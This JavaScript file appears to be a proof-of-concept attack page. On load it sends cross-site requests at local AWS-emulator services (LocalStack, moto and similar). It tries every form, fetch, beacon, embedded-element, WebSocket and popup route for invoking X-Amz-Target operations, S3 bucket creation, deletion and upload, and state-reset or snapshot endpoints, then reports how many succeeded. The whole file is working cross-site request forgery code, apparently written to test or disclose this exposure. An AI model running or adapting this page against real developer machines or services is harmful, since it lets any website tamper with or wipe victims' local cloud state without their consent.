// What a page of another site can make a browser send: every way that needs no leave, and those that do, to each operation at
// each address. Each attempt ends by itself, by its error or after a while; then the page reports how many there were.
const patience = 2000;

function settled(element, place) {
    return new Promise(resolve => {
        element.onload = element.onerror = resolve;
        setTimeout(resolve, patience);
        if (place) place.append(element);
    });
}

function loads(tag, attribute, url, more = {}) {
    return settled(Object.assign(document.createElement(tag), {[attribute]: url}, more), document.body);
}

let frames = 0;
function submits(url, method, enctype, fields, more = {}) {
    const frame = Object.assign(document.createElement("iframe"), {name: `frame${frames++}`});
    const form = Object.assign(document.createElement("form"), {action: url, method, enctype, target: frame.name}, more);
    for (const [name, value] of fields)
        form.append(Object.assign(document.createElement("textarea"), {name, value}));
    const done = settled(frame, document.body);
    document.body.append(form);
    form.submit();
    return done;
}

// A form of an origin of its own, which submits itself.
function sandboxed(host, fields) {
    const inputs = [...fields].map(([name, value]) => `<input name="${name}" value="${value}">`).join("");
    return `<form method="post" action="${host}">${inputs}</form><script>document.forms[0].submit()</scr` + "ipt>";
}

function opens(url, more = "") {
    return new Promise(resolve => {
        const opened = window.open(url, "_blank", more);
        setTimeout(() => { if (opened) opened.close(); resolve(); }, 1000);
    });
}

function listens(Kind, url) {
    return new Promise(resolve => {
        const opened = new Kind(url);
        opened.onopen = opened.onerror = () => { opened.close(); resolve(); };
        setTimeout(resolve, patience);
    });
}

function asks(method, url, headers, body) {
    return new Promise(resolve => {
        const asked = new XMLHttpRequest();
        asked.onloadend = resolve;
        asked.open(method, url);
        for (const name in headers) asked.setRequestHeader(name, headers[name]);
        asked.send(body);
    });
}

// An operation by X-Amz-Target, a header that only a page with leave may set; the others hope that something else will do.
function* targetWays(host, {target, body}) {
    const [prefix, name] = target.split("."), json = {"X-Amz-Target": target, "Content-Type": "application/x-amz-json-1.1"};
    yield fetch(host, {method: "POST", headers: json, body});
    yield fetch(host, {method: "POST", headers: json, body, referrerPolicy: "no-referrer"});
    yield asks("POST", host, json, body);
    yield fetch(`${host}/service/${prefix}/operation/${name}`, {method: "POST", headers: {"smithy-protocol": "rpc-v2-cbor"}, body: "\xa0"});
    yield fetch(`${host}/?X-Amz-Target=${target}`, {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body});
    yield fetch(`${host}/service/${prefix}/operation/${name}`, {method: "POST", mode: "no-cors", body});
    yield submits(`${host}/?X-Amz-Target=${target}`, "post", "text/plain", [[body.slice(0, -1) + ',"a":"', '"}']]);
    yield Promise.resolve(navigator.sendBeacon(`${host}/?X-Amz-Target=${target}`, new Blob([body], {type: "text/plain"})));
    yield listens(WebSocket, `${host.replace("http", "ws")}/?X-Amz-Target=${target}`);
}

// One by a form, which any page can submit.
function* formWays(host, query) {
    const url = `${host}/?${query}`, fields = new URLSearchParams(query), form = {"Content-Type": "application/x-www-form-urlencoded"};
    for (const enctype of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"]) {
        yield submits(host, "post", enctype, fields);
        yield submits(url, "post", enctype, []);
    }
    yield submits(host, "get", "", fields);
    yield fetch(host, {method: "POST", mode: "no-cors", headers: form, body: query});
    yield fetch(host, {method: "POST", mode: "no-cors", headers: form, body: query, referrerPolicy: "no-referrer", credentials: "omit"});
    yield fetch(host, {method: "POST", headers: form, body: query});
    yield fetch(url, {mode: "no-cors"});
    yield fetch(url, {mode: "no-cors", referrerPolicy: "no-referrer"});
    yield fetch(url);
    yield fetch(url, {method: "HEAD", mode: "no-cors"});
    yield fetch(url, {method: "PUT", body: query});
    yield asks("GET", url);
    yield asks("POST", host, form, query);
    yield Promise.resolve(navigator.sendBeacon(host, fields));
    yield Promise.resolve(navigator.sendBeacon(url));
    yield loads("img", "src", url);
    yield loads("img", "src", url, {referrerPolicy: "no-referrer", crossOrigin: "anonymous"});
    yield loads("script", "src", url);
    yield loads("script", "src", url, {type: "module"});
    yield loads("iframe", "src", url);
    yield loads("iframe", "src", url, {referrerPolicy: "no-referrer"});
    yield loads("object", "data", url);
    yield loads("embed", "src", url);
    yield loads("video", "src", url);
    yield loads("link", "href", url, {rel: "stylesheet"});
    yield loads("link", "href", url, {rel: "prefetch"});
    yield loads("iframe", "srcdoc", `<meta http-equiv="refresh" content="0;url=${url.replaceAll("&", "&amp;")}">`);
    yield loads("iframe", "srcdoc", sandboxed(host, fields), {sandbox: "allow-forms allow-scripts"});
    yield loads("iframe", "src", `/redirect?${encodeURIComponent(url)}`);
    yield listens(WebSocket, url.replace("http", "ws"));
    yield listens(EventSource, url);
    yield opens(url);
    yield opens(url, "noopener,noreferrer");
}

// S3's, which need no header: a bucket is made, what is in it is read, changed, posted to.
function* restWays(host) {
    for (const url of [`${host}/`, `${host}/called`, `${host}/called/key`, `${host}/called?delete`, `${host}/called/key?uploads`]) {
        yield fetch(url, {method: "PUT"});
        yield asks("PUT", url, {}, "");
        yield fetch(url, {method: "DELETE"});
        yield fetch(url, {method: "POST", mode: "no-cors", body: "<Delete/>"});
        yield submits(url, "post", "multipart/form-data", [["key", "k"], ["file", "x"]]);
        yield Promise.resolve(navigator.sendBeacon(url, "x"));
        yield fetch(url, {mode: "no-cors"});
        yield fetch(url);
        yield loads("img", "src", url);
        yield loads("script", "src", url);
        yield loads("iframe", "src", url);
    }
}

// Ours beside AWS's.
function* pageWays(host) {
    for (const path of ["/_evpoc/reset", "/_localstack/state/reset", "/moto-api/reset", "/_evpoc/clock", "/_evpoc/snapshot?name=stolen"]) {
        yield submits(host + path, "post", "application/x-www-form-urlencoded", []);
        yield submits(host + path, "post", "text/plain", [['{"a":"', '"}']]);
        yield fetch(host + path, {method: "POST", mode: "no-cors", body: "{}"});
        yield fetch(host + path, {method: "POST"});
        yield fetch(host + path, {method: "DELETE"});
        yield Promise.resolve(navigator.sendBeacon(host + path));
    }
}

async function attack({hosts, targets, forms}) {
    const tries = [];
    for (const host of hosts) {
        for (const one of targets) tries.push(...targetWays(host, one));
        for (const one of forms) tries.push(...formWays(host, one));
        tries.push(...restWays(host));
        tries.push(...pageWays(host));
    }
    const ends = await Promise.allSettled(tries);
    const read = ends.filter(end => end.value instanceof Response && end.value.type !== "opaque" && end.value.status !== 0).length;
    return {tries: tries.length, read};
}

if (window.top === window && location.pathname === "/")
    fetch("/config").then(answer => answer.json()).then(attack)
        .then(report => fetch("/report", {method: "POST", body: JSON.stringify(report)}));
